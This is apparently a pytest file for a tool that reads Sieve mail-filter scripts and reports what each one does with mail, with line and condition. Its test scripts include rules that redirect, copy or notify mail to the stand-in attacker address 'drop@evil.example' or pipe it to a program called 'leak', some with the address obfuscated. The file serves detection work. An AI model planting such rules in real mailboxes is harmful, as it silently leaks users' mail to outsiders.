"""What scripts do with mail is told with line and condition."""

from __future__ import annotations

from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clawback.mailboxes.rules.meaning import Deed, meaning
from clawback.mailboxes.rules.tokens import BadSieveError

EVIL = "drop@evil.example"


def told(script):
    return [(one.deed, one.target, one.line, one.when) for one in meaning(script).effects]


@pytest.mark.parametrize(
    ("script", "deed", "target"),
    [
        (f'redirect "{EVIL}";', Deed.FORWARD, EVIL),
        (f'redirect :copy "{EVIL}";', Deed.COPY, EVIL),
        (f'redirect "{EVIL}"; keep;', Deed.COPY, EVIL),
        ('fileinto "RSS Feeds";', Deed.FILE, "RSS Feeds"),
        ('fileinto :flags "\\\\Seen" "Trash";', Deed.FILE, "Trash"),
        ("discard;", Deed.DISCARD, ""),
        ('ereject "Nobody is here.";', Deed.REFUSE, ""),
        ('setflag ["\\\\Seen", "\\\\Deleted"];', Deed.DELETE, ""),
        ('vnd.dovecot_none; pipe :copy "leak" ["-a"];', Deed.PROGRAM, "leak"),
        (f'notify :message "New mail at work" "mailto:{EVIL}?body=x";', Deed.NOTIFY, EVIL),
        (f'notify :method "mailto" :options ["{EVIL}"];', Deed.NOTIFY, EVIL),
        (
            'require "encoded-character"; redirect "drop${hex:40}${unicode: 65}vil.example";',
            Deed.FORWARD,
            EVIL,
        ),
        ('set "A" "drop"; set "b" "${a}@evil"; redirect "${B}.example";', Deed.FORWARD, EVIL),
    ],
)
def test_a_deed_is_told_with_whom_it_is_for(script, deed, target):
    """Also where the address is put together so that no eye finds it."""
    script = script.replace("vnd.dovecot_none; ", "")
    assert told(script) == [(deed, target, 1, "")]


def test_what_does_no_harm_is_not_told():
    """Copies into folders, keeping, flags of the owner's own, answers in absence."""
    script = 'fileinto :copy "Invoices"; addflag "\\\\Seen"; vacation "Away"; keep;'
    assert told(script) == []


def test_conditions_are_told_as_sieve_writes_them():
    """With those of the branches before, which did not hold."""
    script = """if header :contains "subject" ["invoice", "bank"] {
  discard;
} elsif not size :over 1K {
  redirect "a@x.example";
} else {
  redirect "b@x.example";
}"""
    first = 'header :contains "subject" ["invoice", "bank"]'
    second = "not size :over 1024"
    assert told(script) == [
        (Deed.DISCARD, "", 2, first),
        (Deed.FORWARD, "a@x.example", 4, f"not {first} and {second}"),
        (Deed.FORWARD, "b@x.example", 6, f"not {first} and not {second}"),
    ]


def test_what_never_runs_is_not_told():
    """Behind a stop for all mail, in a branch that is false; a stop for some mail ends nothing."""
    assert told('stop; redirect "a@x.example";') == []
    assert told('if true { stop; } redirect "a@x.example";') == []
    assert told('if false { redirect "a@x.example"; }') == []
    assert told('if true { keep; } else { redirect "a@x.example"; }') == []
    assert told('if exists "x" { stop; } redirect "a@x.example";') != []


def test_an_address_that_the_mail_itself_makes_stays_a_variable():
    """It is not made up."""
    assert told('redirect "${1}@x.example";')[0][1] == "${1}@x.example"


def test_includes_are_named():
    """Each once, in order."""
    script = 'include :personal "b"; include :once "a"; include "b";'
    assert meaning(script).includes == ("b", "a")


@given(st.lists(st.sampled_from(["stop;", "keep;", "discard;", "}", "if true {", '"'])))
def test_nothing_behind_a_stop_is_told(lines):
    """Whatever is there, no deed has a line behind that of a stop for all mail."""
    script = "stop;\n" + "\n".join(lines)
    with suppress(BadSieveError):
        assert told(script) == []
